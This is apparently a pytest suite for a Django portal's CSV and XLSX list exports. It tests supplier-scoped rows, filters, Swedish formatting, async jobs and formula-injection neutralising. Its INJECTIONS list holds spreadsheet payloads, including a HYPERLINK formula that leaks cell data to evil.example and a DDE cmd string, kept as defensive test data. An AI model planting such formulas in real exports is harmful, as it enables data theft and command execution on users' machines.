"""Every list exports as CSV for Swedish Excel and as XLSX: the rows and columns the person sees
on the page, with the page's filters, and no cell a spreadsheet would run as a formula."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.http import QueryDict
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from escalations.models import Issue
from governance.exports import (
    Column,
    csv_lines,
    neutralise,
    perform_export,
    queue_export,
    registered,
    xlsx_bytes,
)
from governance.models import ExportJob, ExportStatus
from governance.tasks import purge_expired_exports
from meetings.models import Forum
from operations.services import record_measurement
from portal.erasure import erase_person
from tests.factories import make_held_minutes, make_issue, make_risk, make_service_level
from tests.worker import wait_for

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# list -> (column that names whose row it is, A's keys, B's keys)
LISTS = {
    "suppliers": (0, {"Alpha Drift AB"}, {"Beta Applikationer AB"}),
    "contracts": (0, {"A-001"}, {"B-001"}),
    "role-holders": (0, {"A-001"}, {"B-001"}),
    "figures": (1, {"A-001"}, {"B-001"}),
    "issues": (0, {"Alpha issue"}, {"Beta issue"}),
    "actions": (5, {"Weekly operations: Alpha"}, {"Weekly operations: Beta"}),
    "meetings": (1, {"Weekly operations: Alpha"}, {"Weekly operations: Beta"}),
    "risks": (0, {"Alpha risk"}, {"Beta risk"}),
}


@pytest.fixture
def world(contract_a, contract_b, procurement):
    """One of everything for supplier A and for supplier B."""
    for contract, name in ((contract_a, "Alpha"), (contract_b, "Beta")):
        make_issue([contract], procurement, title=f"{name} issue")
        make_risk(contract, procurement, title=f"{name} risk", shared_with_supplier=True)
        minutes = make_held_minutes(contract, procurement)
        Forum.objects.filter(pk=minutes.meeting.forum_id).update(name=f"Weekly operations: {name}")
        service_level = make_service_level(contract)
        record_measurement(
            service_level=service_level,
            period_start=date(2026, 10, 1),
            value=Decimal("99.25") if name == "Alpha" else Decimal("99.75"),
            by=procurement,
        )
    # A's missed target raised an issue: the issue list's rows are the two named above.
    Issue.objects.exclude(title__in=["Alpha issue", "Beta issue"]).delete()
    return {"contract_a": contract_a, "contract_b": contract_b}


def export(client, name, file_format="csv", query=""):
    response = client.get(reverse("export", args=[name, file_format]) + query)
    assert response.status_code == 200, response
    return response


def content(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response):
    data = content(response) if not isinstance(response, bytes) else response
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def keys(rows, column):
    return {row[column] for row in rows[1:]}


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(LISTS))
def test_each_supplier_s_contact_gets_only_their_rows_and_the_city_all(
    name, world, client_for, contact_a, contact_b, procurement
):
    column, a_keys, b_keys = LISTS[name]
    assert keys(csv_rows(export(client_for(contact_a), name)), column) == a_keys
    assert keys(csv_rows(export(client_for(contact_b), name)), column) == b_keys
    assert keys(csv_rows(export(client_for(procurement), name)), column) == a_keys | b_keys
    sheet = openpyxl.load_workbook(
        io.BytesIO(content(export(client_for(contact_a), name, "xlsx")))
    ).active
    assert {row[column] for row in sheet.iter_rows(min_row=2, values_only=True)} == a_keys


@pytest.mark.django_db
def test_a_contact_gets_no_city_only_columns(world, client_for, contact_a, director):
    contact_header = csv_rows(export(client_for(contact_a), "suppliers"))[0]
    city_header = csv_rows(export(client_for(director), "suppliers"))[0]
    assert contact_header == ["Supplier", "Organisation number", "Tier"]
    assert city_header == [*contact_header, "Contracts", "Running value (SEK/year)"]


@pytest.mark.django_db
def test_a_risk_the_city_keeps_to_itself_stays_out_of_the_supplier_s_export(
    world, client_for, contact_a, procurement, contract_a
):
    make_risk(contract_a, procurement, title="Alpha internal risk", likelihood=5, impact=5)
    contact_rows = csv_rows(export(client_for(contact_a), "risks"))
    assert keys(contact_rows, 0) == {"Alpha risk"}
    assert "Supplier" not in contact_rows[0] and "City only" not in contact_rows[0]
    city_rows = csv_rows(export(client_for(procurement), "risks", query="?likelihood=5"))
    assert keys(city_rows, 0) == {"Alpha internal risk"}  # the page's heat map cell applies


@pytest.mark.django_db
def test_the_page_s_filters_apply_to_the_export(world, client_for, procurement, contract_a):
    client = client_for(procurement)
    resolved = make_issue([contract_a], procurement, title="Resolved one", status="resolved")
    assert keys(csv_rows(export(client, "issues")), 0) == {"Alpha issue", "Beta issue"}
    assert keys(csv_rows(export(client, "issues", query="?status=resolved")), 0) == {resolved.title}
    supplier = f"?supplier={contract_a.supplier_id}"
    assert keys(csv_rows(export(client, "issues", query=supplier)), 0) == {"Alpha issue"}
    assert keys(csv_rows(export(client, "contracts", query="?q=B-0")), 0) == {"B-001"}
    assert keys(csv_rows(export(client, "role-holders", query=supplier)), 0) == {"A-001"}
    # Only the latest values that missed their target (A's 99.25 against 99.5).
    assert keys(csv_rows(export(client, "figures", query="?missed=1")), 1) == {"A-001"}
    # The page's own links carry its filters.
    page = client.get(reverse("escalations:issue_list") + "?status=resolved&level=").content
    assert b'href="/exports/issues.csv?status=resolved&amp;level="' in page
    assert b'href="/exports/issues.xlsx?status=resolved&amp;level="' in page


@pytest.mark.django_db
def test_csv_is_for_swedish_excel(world, client_for, procurement):
    procurement.language = "sv"
    procurement.save()
    response = export(client_for(procurement), "figures")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert f"{timezone.localdate():%Y-%m-%d}.csv" in disposition
    data = content(response)
    assert data.startswith(b"\xef\xbb\xbfLeverant\xc3\xb6r;Avtal;")  # Swedish headers, `;`
    rows = csv_rows(data)
    alpha = next(row for row in rows if row[1] == "A-001")
    assert "99,25" in alpha  # decimal comma
    assert "2026-10" in alpha


@pytest.mark.django_db
def test_xlsx_has_typed_cells_and_a_frozen_header(world, client_for, procurement, contract_a):
    contract_a.governance_levels.first().role_holders.all().delete()
    response = export(client_for(procurement), "contracts", "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="contracts-' in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Reference", "Title", "Supplier"]
    row = {header[index]: cell for index, cell in enumerate(sheet[2])}
    assert row["Reference"].value == "A-001"
    assert row["SEK/year"].data_type == "n" and row["SEK/year"].value == 1_000_000
    assert row["Roles missing"].value == 2
    assert isinstance(row["Notice deadline"].value, datetime)
    assert row["Notice deadline"].number_format == "yyyy-mm-dd"


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_issue_title_cannot_run_as_a_formula(file_format, client_for, contract_a, procurement):
    for text in INJECTIONS:
        make_issue([contract_a], procurement, title=text)
    response = export(client_for(procurement), "issues", file_format)
    if file_format == "csv":
        titles = keys(csv_rows(response), 0)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        titles = {cell.value for cell in sheet["A"][1:]}
        assert {cell.data_type for cell in sheet["A"][1:]} == {"s"}
    assert titles == {f"'{text}" for text in INJECTIONS}


def test_text_is_neutralised_and_numbers_stay_numbers():
    rows = [{"text": text, "number": Decimal("-12.5"), "int": -3} for text in INJECTIONS]
    columns = [
        Column("Text", lambda row: row["text"]),
        Column("Number", lambda row: row["number"]),
        Column("Whole", lambda row: row["int"]),
        Column("Day", lambda row: date(2026, 11, 30)),
    ]
    data = b"".join(csv_lines(columns, rows)).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(data, newline=""), delimiter=";"))
    assert parsed[0] == ["Text", "Number", "Whole", "Day"]
    assert [row[0] for row in parsed[1:]] == [f"'{text}" for text in INJECTIONS]
    assert {tuple(row[1:]) for row in parsed[1:]} == {("-12,5", "-3", "2026-11-30")}

    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("Test", columns, rows))).active
    for text, cells in zip(INJECTIONS, sheet.iter_rows(min_row=2), strict=True):
        assert (cells[0].value, cells[0].data_type) == (f"'{text}", "s")
        assert (cells[1].value, cells[1].data_type) == (-12.5, "n")
        assert (cells[2].value, cells[2].data_type) == (-3, "n")
        assert cells[3].value == datetime(2026, 11, 30)
    assert neutralise("Plain text") == "Plain text"
    assert neutralise("1-2") == "1-2"


@pytest.mark.django_db
def test_an_unknown_list_or_format_is_not_found(client_for, procurement):
    client = client_for(procurement)
    assert client.get(reverse("export", args=["nothing", "csv"])).status_code == 404
    assert client.get(reverse("export", args=["issues", "pdf"])).status_code == 404


@pytest.mark.django_db
def test_every_list_page_links_its_export(world, client_for, procurement):
    client = client_for(procurement)
    pages = {
        "suppliers:list": ["suppliers"],
        "suppliers:contract_list": ["contracts", "role-holders"],
        "operations:figure_list": ["figures"],
        "escalations:issue_list": ["issues"],
        "meetings:action_list": ["actions"],
        "meetings:forum_list": ["meetings"],
        "risks:list": ["risks"],
    }
    for url_name, names in pages.items():
        page = client.get(reverse(url_name)).content.decode()
        for name in names:
            assert f'href="/exports/{name}.csv' in page, url_name
            assert f'href="/exports/{name}.xlsx' in page, url_name


@pytest.mark.django_db
def test_an_expired_file_is_gone(client_for, procurement):
    job = ExportJob.objects.create(
        requested_by=procurement,
        list_name="issues",
        file_format="csv",
        status=ExportStatus.DONE,
        filename="issues.csv",
        content=b"\xef\xbb\xbfIssue\r\n",
        expires_at=timezone.now() - timedelta(minutes=1),
    )
    client = client_for(procurement)
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 404
    assert "no longer kept" in client.get(job.get_absolute_url()).content.decode()
    assert purge_expired_exports() == 1
    assert not ExportJob.objects.exists()


@pytest.mark.worker
def test_a_large_export_is_made_by_the_worker_for_the_one_who_asked(
    worker, world, client_for, procurement, director
):
    client = client_for(procurement)
    with override_settings(EXPORT_ASYNC_ROWS=1):
        response = client.get(reverse("export", args=["issues", "xlsx"]) + "?status=open")
    assert response.status_code == 302
    job = ExportJob.objects.get(requested_by=procurement)
    assert response["Location"] == job.get_absolute_url()
    assert job.rows_total == 2
    page = client.get(job.get_absolute_url()).content.decode()
    assert 'id="export-status"' in page

    def status():
        return client.get(job.get_absolute_url(), headers={"HX-Request": "true"}).content

    assert wait_for(lambda: b"Download" in status())
    done = status().decode()
    assert "2 rows. Only you can download the file" in done
    assert "every 1s" not in done  # htmx stops asking once it is done
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE
    download = client.get(reverse("export_download", args=[job.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment; ")
    assert download["X-Content-Type-Options"] == "nosniff"
    sheet = openpyxl.load_workbook(io.BytesIO(download.content)).active
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == {
        "Alpha issue",
        "Beta issue",
    }
    # Nobody else gets it, nor learns it exists.
    other = client_for(director)
    assert other.get(reverse("export_download", args=[job.pk])).status_code == 404
    assert other.get(job.get_absolute_url()).status_code == 404


@pytest.mark.django_db
def test_erasing_a_person_deletes_the_kept_files_that_may_name_them(
    client_for, procurement, contact_a, admin_user
):
    ExportJob.objects.create(
        requested_by=procurement,
        list_name="role-holders",
        file_format="csv",
        status=ExportStatus.DONE,
        filename="role-holders.csv",
        content=f"\ufeffName\r\n{contact_a.get_full_name()}\r\n".encode(),
        expires_at=timezone.now() + timedelta(hours=1),
    )
    erase_person(person=contact_a, by=admin_user)
    assert not ExportJob.objects.exists()


@pytest.mark.django_db
def test_a_person_who_may_no_longer_sign_in_gets_no_file(world, procurement):
    job = queue_export(
        export_list=registered()["issues"],
        file_format="csv",
        query=QueryDict("status=open&page=2"),
        rows_total=2,
        by=procurement,
    )
    assert job.query == "status=open"  # every page of the list
    procurement.is_active = False
    procurement.save()
    perform_export({"job_id": job.pk})
    job.refresh_from_db()
    assert (job.status, job.content) == (ExportStatus.FAILED, None)
